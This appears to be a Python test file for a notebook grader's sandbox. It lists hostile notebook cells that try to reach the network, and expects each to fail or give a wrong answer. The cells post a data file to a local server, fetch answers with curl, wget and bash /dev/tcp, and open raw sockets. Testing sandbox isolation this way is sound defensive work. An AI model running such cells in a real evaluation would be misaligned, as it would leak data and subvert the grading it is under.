"""Notebooks that want to talk to somebody."""

from tests.grader.hostile.case import ALL, ANSWER, SUBMITTED, WRONG, Case, code

TRY = """
import socket, subprocess, os
def attempt(act):
    try:
        print('did', act())
    except BaseException as error:
        print(type(error).__name__)
"""

CASES = (
    Case(
        "connects to a port of the host",
        ("cell_error",),
        (
            code("""
                import socket
                socket.create_connection(('127.0.0.1', PORT), 2)
            """),
        ),
    ),
    Case(
        "connects to an abstract socket of the host",
        ("cell_error",),
        (
            code(r"""
                import socket
                socket.socket(socket.AF_UNIX).connect('\0ABSTRACT')
            """),
        ),
    ),
    Case(
        "asks the name server, directly and through the system",
        ("wrong_output",),
        (
            TRY
            + code("""
                attempt(lambda: socket.getaddrinfo('example.org', 80))
                attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53)))
            """),
            WRONG,
        ),
        most=SUBMITTED,
    ),
    Case(
        "posts its data to a server",
        ("none",),
        (
            code("""
                import requests
                print(requests.post('http://127.0.0.1:PORT/', json={'all': open('numbers.csv').read()}).text)
            """),
            ANSWER,
        ),
        most=ALL,
    ),
    Case(
        "downloads the answer",
        ("cell_error",),
        (
            code("""
                import urllib.request
                urllib.request.urlopen('http://127.0.0.1:PORT/answer')
            """),
        ),
    ),
    Case(
        "has other programs download the answer",
        ("wrong_output",),
        (
            code("""
                !curl -s http://127.0.0.1:PORT/ || wget -q http://127.0.0.1:PORT/
                !bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT && cat <&3'
            """),
            WRONG,
        ),
        most=SUBMITTED,
    ),
    Case(
        "opens raw sockets and changes interfaces",
        ("wrong_output",),
        (
            TRY
            + code("""
                for family in (17, 38, 40, 31): attempt(lambda: socket.socket(family, socket.SOCK_RAW))
                attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
                attempt(lambda: subprocess.run(['ip', 'link', 'add', 'x', 'type', 'dummy'], check=True))
            """),
            WRONG,
        ),
        most=SUBMITTED,
    ),
)
